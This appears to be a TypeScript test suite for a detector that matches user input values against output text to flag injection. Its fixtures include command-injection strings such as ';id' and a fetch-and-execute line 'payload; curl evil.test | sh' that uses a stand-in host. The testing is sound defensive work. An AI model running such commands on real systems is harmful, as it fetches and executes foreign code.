import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { correlate } from './correlate.ts';
import { createIndex } from './input-index.ts';
import { indexOf } from './testing/rows.ts';

/** Each match as `text=value part`, with a star when it is whole. */
function shown(text: string, input: string | readonly string[]): string[] {
  return correlate(text, indexOf(input)).matches.map(
    ({ span, value, valueSpan, whole }) => `${text.slice(...span)}=${value.text.slice(...valueSpan)}${whole ? '*' : ''}`,
  );
}

const rows: readonly { name: string; input: string | readonly string[]; text: string; expected: readonly string[] }[] = [
  { name: 'a whole value', input: 'hello world', text: 'say hello world!', expected: ['hello world=hello world*'] },
  { name: 'a value of gram length', input: 'abc;ef', text: 'xabc;efx', expected: ['abc;ef=abc;ef*'] },
  { name: 'one plain word', input: 'abcdefgh', text: 'x abcdefgh', expected: [] },
  { name: 'a short value with a special character', input: ';id', text: 'ls ;id', expected: [';id=;id*'] },
  { name: 'a short word is in any text', input: 'id', text: 'ls id', expected: [] },
  { name: 'a part', input: 'before the-part after', text: 'x(the-part)', expected: ['the-part=the-part'] },
  { name: 'a part below the length', input: 'before part after', text: 'x(part)', expected: [] },
  { name: 'blanks at the ends', input: '  trimmed;  ', text: '<trimmed;>', expected: ['trimmed;=trimmed;*'] },
  { name: 'other letter case', input: 'Hello World', text: 'HELLO WORLD', expected: ['HELLO WORLD=Hello World*'] },
  { name: 'a letter that grows in lower case', input: 'İstanbul; id', text: 'x İstanbul; id', expected: ['İstanbul; id=İstanbul; id*'] },
  {
    name: 'twice',
    input: 'hello world',
    text: 'hello world, hello world',
    expected: ['hello world=hello world*', 'hello world=hello world*'],
  },
  { name: 'two values', input: ['first;1', 'second;2'], text: 'first;1 second;2', expected: ['first;1=first;1*', 'second;2=second;2*'] },
  { name: 'escaped for JSON', input: 'say "hi"\nnow', text: '{"a":"say \\"hi\\"\\nnow"}', expected: ['say \\"hi\\"\\nnow=say "hi"\nnow*'] },
  { name: 'nothing in common', input: 'hello world', text: 'goodbye moon', expected: [] },
  { name: 'no text', input: 'hello world', text: '', expected: [] },
];
for (const { name, input, text, expected } of rows) test(`correlate: ${name}`, () => assert.deepEqual(shown(text, input), expected));

test('correlate: whatever surrounds it, a value of six units or a part of eight is found', () => {
  const word = fc.string({ unit: fc.constantFrom(...'ab;\'" '), minLength: 0, maxLength: 30 });
  fc.assert(
    fc.property(word, word, word, fc.boolean(), (before, value, after, cut) => {
      const core = value.trim();
      if (core.length < 8 || !/[^ab]/.test(core)) return;
      const input = cut ? `Q${value}Q` : value;
      const text = before + core + after;
      const found = correlate(text, indexOf(input)).matches;
      assert.ok(
        found.some(({ span: [start, end] }) => start <= before.length && end >= before.length + core.length),
        JSON.stringify({ text, input, found: found.map((match) => match.span) }),
      );
    }),
  );
});

test('correlate: spans show the same text on both sides', () => {
  const piece = fc
    .array(fc.constantFrom('abc', 'abcabc', '; id', '"', '\\', 'x', ' ', 'İ', 'SELECT '), { maxLength: 20 })
    .map((parts) => parts.join(''));
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 5 }), piece, (values, text) => {
      for (const { span, value, valueSpan } of correlate(text, indexOf(values)).matches) {
        assert.ok(span[0] < span[1] && span[1] <= text.length && valueSpan[1] <= value.text.length);
        const sink = text.slice(...span).toLowerCase();
        const same = value.text.slice(...valueSpan).toLowerCase() === sink;
        assert.ok(same || JSON.stringify(value.text).toLowerCase().includes(sink), JSON.stringify({ sink, value: value.text, valueSpan }));
      }
    }),
  );
});

test('correlate: repetition by an attacker costs no more than linear time and hides nothing', () => {
  const decoys = Array.from({ length: 3000 }, (_, i) => `payload; curl ${i} decoy`);
  const index = indexOf([...decoys, 'payload; curl evil.test | sh']);
  const found = correlate('run payload; curl evil.test | sh', index).matches;
  assert.ok(found.some(({ whole, value }) => whole && value.text.endsWith('| sh')));
  const start = process.hrtime.bigint();
  const same = indexOf(Array.from({ length: 400 }, (_, i) => 'a'.repeat(500 + i)));
  correlate('a'.repeat(100_000), same);
  assert.ok(Number(process.hrtime.bigint() - start) / 1e6 < 3000);
});

test('correlate: nothing is built before a sink asks', () => {
  let reads = 0;
  const values = new Proxy([], { get: () => reads++ });
  createIndex([{ label: 'event', values }]);
  assert.equal(reads, 0);
});
